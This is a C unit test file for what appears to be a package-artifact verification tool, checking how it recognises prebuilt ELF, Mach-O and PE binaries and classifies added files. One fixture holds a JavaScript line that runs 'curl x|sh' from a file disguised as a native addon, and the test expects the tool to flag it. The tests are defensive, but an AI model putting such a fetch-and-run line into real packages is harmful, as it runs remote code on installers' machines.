/* Prebuilt native binaries (diff/native.c): recognised by header and place, unverified. */
#include "sg_test.h"

#include <stdio.h>
#include <string.h>

#include "common/common.h"
#include "diff/diff_int.h"

static sg_ctx *ctx;
static sg_report *rep;
static sg_tree *src_tree, *art_tree;

static int setup(void **state)
{
    (void)state;
    return sg_ctx_new(&ctx) < 0 || sg_report_new(&rep, ctx) < 0 ? -1 : 0;
}

static int teardown(void **state)
{
    (void)state;
    sg_tree_free(src_tree);
    sg_tree_free(art_tree);
    src_tree = art_tree = NULL;
    sg_report_free(rep);
    sg_ctx_free(ctx);
    rep = NULL;
    ctx = NULL;
    return 0;
}

/* ---------------------------------------------------------------- generated headers */

static void put16(unsigned char *p, unsigned v, int big)
{
    p[big ? 0 : 1] = (unsigned char)(v >> 8);
    p[big ? 1 : 0] = (unsigned char)v;
}

static void put32(unsigned char *p, uint32_t v, int big)
{
    int i;
    for (i = 0; i < 4; i++)
        p[big ? i : 3 - i] = (unsigned char)(v >> (24 - 8 * i));
}

/* A 64-bit ELF shared object header for e_machine (little-endian unless big). */
static size_t make_elf(unsigned char *b, size_t cap, unsigned machine, int big)
{
    memset(b, 0, cap);
    memcpy(b,
           "\x7f"
           "ELF",
           4);
    b[4] = 2;
    b[5] = big ? 2 : 1;
    b[6] = 1;
    put16(b + 16, 3, big);
    put16(b + 18, machine, big);
    return 256;
}

/* A Mach-O header: magic as it appears in the file, then cputype in the file's byte order. */
static size_t make_macho(unsigned char *b, size_t cap, uint32_t magic_be, uint32_t cpu)
{
    int big = magic_be == 0xfeedfaceu || magic_be == 0xfeedfacfu;
    memset(b, 0, cap);
    put32(b, magic_be, 1);
    put32(b + 4, cpu, big);
    put32(b + 12, 6, big); /* MH_DYLIB */
    return 256;
}

/* A universal binary with two architectures (entries of 20 or, for fat64, 32 bytes). */
static size_t make_fat(unsigned char *b, size_t cap, int fat64)
{
    size_t step = fat64 ? 32 : 20;
    memset(b, 0, cap);
    put32(b, fat64 ? 0xcafebabfu : 0xcafebabeu, 1);
    put32(b + 4, 2, 1);
    put32(b + 8, 0x01000007u, 1);
    put32(b + 8 + step, 0x0100000cu, 1);
    return 256;
}

/* A PE file whose COFF header sits at lfanew (0x80 is past an entry's 64-byte head). */
static size_t make_pe(unsigned char *b, size_t cap, unsigned machine, uint32_t lfanew)
{
    memset(b, 0, cap);
    b[0] = 'M';
    b[1] = 'Z';
    put32(b + 0x3c, lfanew, 0);
    memcpy(b + lfanew, "PE\0\0", 4);
    put16(b + lfanew + 4, machine, 0);
    return lfanew + 64;
}

static int header(sg_native_info *info, const unsigned char *b, size_t n)
{
    return sg_diff__native_header(info, b, n);
}

static void test_native__elf_machines_are_read(void **state)
{
    static const struct {
        unsigned machine;
        int big;
        const char *arch;
    } cases[] = {{62, 0, "x64"},      {183, 0, "arm64"},          {3, 0, "ia32"},
                 {40, 0, "arm"},      {21, 1, "ppc64"},           {22, 1, "s390x"},
                 {243, 0, "riscv64"}, {9999, 0, "machine 0x270f"}};
    unsigned char b[512];
    sg_native_info info;
    size_t i;
    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t n = make_elf(b, sizeof(b), cases[i].machine, cases[i].big);
        assert_int_equal(header(&info, b, n), 1);
        assert_string_equal(info.format, "ELF");
        assert_string_equal(info.arch, cases[i].arch);
    }
    /* an ELF magic with no valid class is not a header */
    make_elf(b, sizeof(b), 62, 0);
    b[4] = 7;
    assert_int_equal(header(&info, b, 64), 0);
}

static void test_native__every_macho_magic_is_read(void **state)
{
    static const uint32_t magics[] = {0xfeedfaceu, 0xfeedfacfu, 0xcefaedfeu, 0xcffaedfeu};
    unsigned char b[512];
    sg_native_info info;
    size_t i;
    (void)state;
    for (i = 0; i < sizeof(magics) / sizeof(magics[0]); i++) {
        size_t n = make_macho(b, sizeof(b), magics[i], i % 2 ? 0x0100000cu : 0x01000007u);
        if (header(&info, b, n) != 1)
            fail_msg("Mach-O magic %08x not recognised", (unsigned)magics[i]);
        assert_string_equal(info.format, "Mach-O");
        assert_string_equal(info.arch, i % 2 ? "arm64" : "x64");
    }
}

static void test_native__universal_binaries_list_their_architectures(void **state)
{
    unsigned char b[512];
    sg_native_info info;
    (void)state;
    assert_int_equal(header(&info, b, make_fat(b, sizeof(b), 0)), 1);
    assert_string_equal(info.format, "Mach-O universal");
    assert_string_equal(info.arch, "x64+arm64");
    assert_int_equal(header(&info, b, make_fat(b, sizeof(b), 1)), 1);
    assert_string_equal(info.arch, "x64+arm64");
}

static void test_native__java_class_files_are_not_universal_binaries(void **state)
{
    /* 0xcafebabe, minor 0, major 52 (Java 8) */
    static const unsigned char cls[] = {0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 10, 0, 0};
    sg_native_info info;
    (void)state;
    assert_int_equal(header(&info, cls, sizeof(cls)), 0);
}

static void test_native__pe_machine_is_read_from_the_coff_header(void **state)
{
    unsigned char b[512];
    sg_native_info info;
    (void)state;
    assert_int_equal(header(&info, b, make_pe(b, sizeof(b), 0x8664, 0x80)), 1);
    assert_string_equal(info.format, "PE");
    assert_string_equal(info.arch, "x64");
    assert_int_equal(header(&info, b, make_pe(b, sizeof(b), 0xaa64, 0x40)), 1);
    assert_string_equal(info.arch, "arm64");
    assert_int_equal(header(&info, b, make_pe(b, sizeof(b), 0x014c, 0x100)), 1);
    assert_string_equal(info.arch, "ia32");
    /* "MZ" alone, or e_lfanew pointing past the bytes, is no PE */
    make_pe(b, sizeof(b), 0x8664, 0x80);
    memcpy(b + 0x80, "XX\0\0", 4);
    assert_int_equal(header(&info, b, sizeof(b)), 0);
    make_pe(b, sizeof(b), 0x8664, 0x80);
    put32(b + 0x3c, 0x7fffffffu, 0);
    assert_int_equal(header(&info, b, sizeof(b)), 0);
    assert_int_equal(header(&info, (const unsigned char *)"MZ", 2), 0);
}

static void test_native__places(void **state)
{
    (void)state;
    assert_int_equal(sg_diff__native_place("prebuilds/linux-x64/node.napi.node", 0, 0, 0), 1);
    assert_int_equal(sg_diff__native_place("prebuilds/darwin-arm64/libfoo.dylib", 0, 0, 0), 1);
    assert_int_equal(sg_diff__native_place("build/Release/addon.node", 0, 0, 0), 1);
    assert_int_equal(sg_diff__native_place("foo.linux-x64-gnu.node", 0, 0, 0), 1);
    assert_int_equal(sg_diff__native_place("lib/payload.bin", 0, 0, 0), 0);
    assert_int_equal(sg_diff__native_place("bin/esbuild", 1, 0, 0), 0);
    assert_int_equal(sg_diff__native_place("bin/esbuild", 1, 0, 1), 1);
    assert_int_equal(sg_diff__native_place("esbuild.exe", 0, 0, 1), 1);
    assert_int_equal(sg_diff__native_place("lib/libvips-cpp.so.42", 0, 0, 1), 1);
    assert_int_equal(sg_diff__native_place("lib/data.bin", 0, 0, 1), 0);
    assert_int_equal(sg_diff__native_place("xprebuilds/a.bin", 0, 0, 0), 0);
}

/* ---------------------------------------------------------------- through the tree diff */

#define PKG "{\"name\":\"addon\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n"
#define PLATFORM_PKG                                                                               \
    "{\"name\":\"@esbuild/linux-x64\",\"version\":\"0.20.0\",\"os\":[\"linux\"],"                  \
    "\"cpu\":[\"x64\"]}\n"

static const sg_finding *only_finding_for(const char *path)
{
    const sg_finding *hit = NULL;
    size_t i, n = sg_report_finding_count(rep);
    for (i = 0; i < n; i++) {
        const sg_finding *f = sg_report_finding(rep, i);
        if (f->path && strcmp(f->path, path) == 0) {
            if (hit)
                fail_msg("two findings for '%s'", path);
            hit = f;
        }
    }
    if (!hit)
        fail_msg("no finding for '%s'", path);
    return hit;
}

/* Diff a source holding package.json and index.js against an artifact that adds one file. */
static void diff_with(const char *pkg, const char *path, const unsigned char *bytes, size_t n,
                      unsigned mode)
{
    const sgt_file src[] = {{"package.json", pkg, 0, 0}, {"index.js", "module.exports=1\n", 0, 0}};
    const sgt_file art[] = {{"package.json", pkg, 0, 0},
                            {"index.js", "module.exports=1\n", 0, 0},
                            {path, (const char *)bytes, n, mode}};
    int rc;
    src_tree = sgt_tree(src, 2);
    art_tree = sgt_tree(art, 3);
    if ((rc = sg_diff_trees(rep, ctx, src_tree, art_tree, NULL)) != 0)
        fail_msg("sg_diff_trees failed: %d %s", rc, sg_error_message(ctx));
}

static void expect_unverified(const char *path, const char *text)
{
    const sg_finding *f = only_finding_for(path);
    assert_string_equal(f->kind, "file-unverified");
    assert_int_equal(f->severity, SG_SEV_MEDIUM);
    if (!f->detail || !strstr(f->detail, text) ||
        !strstr(f->detail, "does not rebuild native code"))
        fail_msg("detail '%s' lacks '%s'", f->detail ? f->detail : "", text);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_INCONCLUSIVE);
}

static void test_native__prebuildify_binary_is_unverified_not_added(void **state)
{
    unsigned char b[512];
    size_t n = make_elf(b, sizeof(b), 62, 0);
    (void)state;
    diff_with(PKG, "prebuilds/linux-x64/node.napi.node", b, n, 0);
    expect_unverified("prebuilds/linux-x64/node.napi.node", "ELF, x64");
}

static void test_native__node_gyp_output_names_the_mach_o_platform(void **state)
{
    unsigned char b[512];
    size_t n = make_macho(b, sizeof(b), 0xcffaedfeu, 0x0100000cu);
    (void)state;
    diff_with(PKG, "build/Release/addon.node", b, n, 0);
    expect_unverified("build/Release/addon.node", "Mach-O, arm64");
}

static void test_native__pe_header_past_the_head_is_read(void **state)
{
    unsigned char b[512];
    size_t n = make_pe(b, sizeof(b), 0x8664, 0x100);
    (void)state;
    diff_with(PKG, "prebuilds/win32-x64/node.napi.node", b, n, 0);
    expect_unverified("prebuilds/win32-x64/node.napi.node", "PE, x64");
}

static void test_native__platform_package_executable_is_unverified(void **state)
{
    unsigned char b[512];
    size_t n = make_elf(b, sizeof(b), 62, 0);
    (void)state;
    diff_with(PLATFORM_PKG, "bin/esbuild", b, n, 0755);
    expect_unverified("bin/esbuild", "ELF, x64");
}

/* Diff with a rebuilt tree holding `path` as `bytes`. */
static void diff_rebuilt(const char *path, const unsigned char *art, size_t alen,
                         const unsigned char *reb, size_t rlen, sg_tree **rebuilt)
{
    const sgt_file src[] = {{"package.json", PKG, 0, 0}};
    const sgt_file a[] = {{"package.json", PKG, 0, 0}, {path, (const char *)art, alen, 0}};
    const sgt_file r[] = {{"package.json", PKG, 0, 0}, {path, (const char *)reb, rlen, 0}};
    sg_diff_opts opts = SG_DIFF_OPTS_INIT;
    int rc;
    src_tree = sgt_tree(src, 1);
    art_tree = sgt_tree(a, 2);
    *rebuilt = sgt_tree(r, 2);
    opts.rebuilt = *rebuilt;
    if ((rc = sg_diff_trees(rep, ctx, src_tree, art_tree, &opts)) != 0)
        fail_msg("sg_diff_trees failed: %d %s", rc, sg_error_message(ctx));
}

/* Native builds differ between honest builds: other rebuilt bytes leave the binary
 * unverified (never file-modified); the same bytes are rebuilt. */
static void test_native__rebuilt_binary_other_bytes_unverified_same_bytes_rebuilt(void **state)
{
    unsigned char b[512], other[512];
    size_t n = make_elf(b, sizeof(b), 62, 0);
    sg_tree *rebuilt = NULL;
    (void)state;
    memcpy(other, b, n);
    other[200] = 1;
    diff_rebuilt("build/Release/addon.node", b, n, other, n, &rebuilt);
    expect_unverified("build/Release/addon.node", "the build's copy has other bytes");
    sg_tree_free(rebuilt);
    sg_report_free(rep);
    assert_int_equal(sg_report_new(&rep, ctx), 0);
    sg_tree_free(src_tree);
    sg_tree_free(art_tree);
    diff_rebuilt("build/Release/addon.node", b, n, b, n, &rebuilt);
    assert_int_equal(sg_report_finding_count(rep), 0);
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_PASS);
    sg_tree_free(rebuilt);
}

static void test_native__executable_outside_a_platform_package_stays_added(void **state)
{
    unsigned char b[512];
    size_t n = make_elf(b, sizeof(b), 62, 0);
    const sg_finding *f;
    (void)state;
    diff_with(PKG, "bin/esbuild", b, n, 0755);
    f = only_finding_for("bin/esbuild");
    assert_string_equal(f->kind, "file-added");
    assert_int_equal(sg_report_decide(rep, SG_SEV_HIGH), SG_VERDICT_FAIL);
}

static void test_native__javascript_named_node_stays_added(void **state)
{
    static const char js[] = "module.exports = require('child_process').exec('curl x|sh')\n";
    const sg_finding *f;
    (void)state;
    diff_with(PKG, "prebuilds/linux-x64/node.napi.node", (const unsigned char *)js, sizeof(js) - 1,
              0);
    f = only_finding_for("prebuilds/linux-x64/node.napi.node");
    assert_string_equal(f->kind, "file-added");
    assert_int_equal(f->severity, SG_SEV_HIGH);
}

static void test_native__mz_without_pe_header_stays_added(void **state)
{
    unsigned char b[512];
    size_t n = make_pe(b, sizeof(b), 0x8664, 0x100);
    const sg_finding *f;
    (void)state;
    memcpy(b + 0x100, "NE\0\0", 4);
    diff_with(PKG, "build/Release/addon.node", b, n, 0);
    f = only_finding_for("build/Release/addon.node");
    assert_string_equal(f->kind, "file-added");
}

#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        T(test_native__elf_machines_are_read),
        T(test_native__every_macho_magic_is_read),
        T(test_native__universal_binaries_list_their_architectures),
        T(test_native__java_class_files_are_not_universal_binaries),
        T(test_native__pe_machine_is_read_from_the_coff_header),
        T(test_native__places),
        T(test_native__prebuildify_binary_is_unverified_not_added),
        T(test_native__node_gyp_output_names_the_mach_o_platform),
        T(test_native__pe_header_past_the_head_is_read),
        T(test_native__platform_package_executable_is_unverified),
        T(test_native__rebuilt_binary_other_bytes_unverified_same_bytes_rebuilt),
        T(test_native__executable_outside_a_platform_package_stays_added),
        T(test_native__javascript_named_node_stays_added),
        T(test_native__mz_without_pe_header_stays_added),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
